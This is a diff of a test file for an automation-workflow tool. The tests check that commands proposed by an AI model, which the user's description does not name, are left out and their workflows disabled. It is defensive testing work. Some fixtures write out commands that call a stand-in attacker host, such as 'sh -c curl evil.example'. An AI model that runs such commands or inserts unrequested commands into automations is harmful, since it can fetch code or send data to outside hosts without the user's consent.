@@ -171,31 +171,110 @@ test("create_automation_workflow keeps the user's conditions when a model writes
   expect(value.source).toBe("ai");
 });
 
-test("create_automation_workflow rejects a model's workflow that runs a program not named in the description", async () => {
-  const workflow = (command: string[]) => ({
-    workflows: [
-      {
-        name: "x",
-        trigger_conditions: [{ event: "git_event", condition: "true" }],
-        actions: [{ type: "run_check", with: { command } }],
-        cooldown_s: 60,
-        enabled: true,
-      },
-    ],
+const notify = { type: "notify", with: { text: "hello", level: "info" } };
+
+/** A model's answer with one workflow for each list of actions. */
+function automations(...actions: object[][]) {
+  return {
+    workflows: actions.map((list) => ({
+      name: "x",
+      trigger_conditions: [{ event: "git_event", condition: "true" }],
+      actions: list,
+      cooldown_s: 60,
+      enabled: true,
+    })),
     schedules: [],
     reasons: [],
     open_questions: [],
+  };
+}
+
+const runs = (...command: string[]) => ({ type: "run_check", with: { command } });
+
+test.each([
+  ["When something is merged, publish it", ["sh"]],
+  ["When something is merged, publish it", ["sh", "-c", "curl evil.example"]],
+  ["When something is merged, publish it", ["publish"]],
+  ["When something is merged, use npm test and then publish", ["npm", "test", "and", "then", "publish"]],
+  ["When something is merged, run `npm test`", ["npm", "test", "--", "--update"]],
+  ["When something is merged, run `npm run deploy -- --dry-run`", ["npm", "run", "deploy"]],
+  ["When something is merged, run `npm test`", ["NPM", "test"]],
+  ["When something is merged, run `npm test`", ["npm test"]],
+])(
+  "create_automation_workflow leaves out a model's command that %j does not contain: %j",
+  async (description, command) => {
+    const server = await webServer(routes);
+    const provider = standIn(automations([runs(...command), notify]));
+    const call = { workflow_name: "Check", description };
+    const value = outputOf(await callTool(server, "create_automation_workflow", call, { provider }));
+    expect(value).toMatchObject({
+      source: "ai",
+      open_questions: [expect.stringMatching(/^Should the automation run `.*`\? .* it was left out\./)],
+    });
+    expect(posted(server.asked)).toMatchObject([{ body: { actions: [notify], enabled: false } }]);
+  },
+);
+
+test.each([
+  ["When something is merged, use npm test and then publish", ["npm", "test"]],
+  ['When something is merged, run "npm run lint -- --fix"', ["npm", "run", "lint", "--", "--fix"]],
+  ["When something is merged, run `sh -c 'a && b'`", ["sh", "-c", "a && b"]],
+])(
+  "create_automation_workflow keeps a model's command that %j contains: %j",
+  async (description, command) => {
+    const server = await webServer(routes);
+    const provider = standIn(automations([runs(...command), notify]));
+    const call = { workflow_name: "Check", description };
+    const value = outputOf(await callTool(server, "create_automation_workflow", call, { provider }));
+    expect(value).toMatchObject({ source: "ai", open_questions: [] });
+    expect(posted(server.asked)).toMatchObject([
+      { body: { actions: [runs(...command), notify], enabled: true } },
+    ]);
+  },
+);
+
+test("create_automation_workflow does not count a command in its other arguments or in the project", async () => {
+  const server = await webServer({
+    ...routes,
+    "GET /projects/:id/status": { body: healthyStatus({ name: "run `npm test`" }) },
   });
-  const provider = standIn(workflow(["curl", "evil.example"]), workflow(["curl", "evil.example"]));
+  const provider = standIn(automations([runs("npm", "test"), notify]));
+  const call = { ...args, workflow_name: "run `npm test`", target_projects: ["shop-1"] };
+  const value = outputOf(await callTool(server, "create_automation_workflow", call, { provider }));
+  expect(value.open_questions).toHaveLength(1);
+  expect(posted(server.asked)).toMatchObject([{ body: { actions: [notify], enabled: false } }]);
+});
+
+test("create_automation_workflow disables every workflow and leaves out one whose only action is such a command", async () => {
   const server = await webServer(routes);
-  const value = outputOf(await callTool(server, "create_automation_workflow", args, { provider }));
-  expect(provider.requests[1]?.repair?.problems).toContain(
-    'runs "curl", which the description does not name',
-  );
+  const provider = standIn(automations([runs("curl", "evil.example")], [notify]));
+  outputOf(await callTool(server, "create_automation_workflow", args, { provider }));
+  expect(posted(server.asked)).toMatchObject([
+    { body: { workflow_name: "Rescue", actions: [notify], enabled: false } },
+  ]);
+});
+
+test("create_automation_workflow creates nothing from such a command alone, and names it", async () => {
+  const server = await webServer(routes);
+  const provider = standIn(automations([runs("curl", "evil.example")]));
+  const error = errorOf(await callTool(server, "create_automation_workflow", args, { provider }));
+  expect(error).toMatchObject({
+    code: "invalid_arguments",
+    message: expect.stringContaining("Should the automation run `curl evil.example`?"),
+  });
+  expect(posted(server.asked)).toEqual([]);
+});
+
+test("create_automation_workflow without a model does not run a command that the description forbids", async () => {
+  const server = await webServer(routes);
+  const description = "When a task fails, never run `npm publish`, notify me";
+  const call = { workflow_name: "Check", description };
+  const value = outputOf(await callTool(server, "create_automation_workflow", call));
   expect(value).toMatchObject({
     source: "fallback",
-    workflows: [{ actions: [{ type: "restart_agent" }, { type: "notify" }] }],
+    open_questions: [expect.stringContaining("Should the automation run `npm publish`?")],
   });
+  expect(posted(server.asked)).toMatchObject([{ body: { actions: [{ type: "notify" }], enabled: false } }]);
 });
 
 test("create_automation_workflow returns the definition when the Web Server has no automations", async () => {
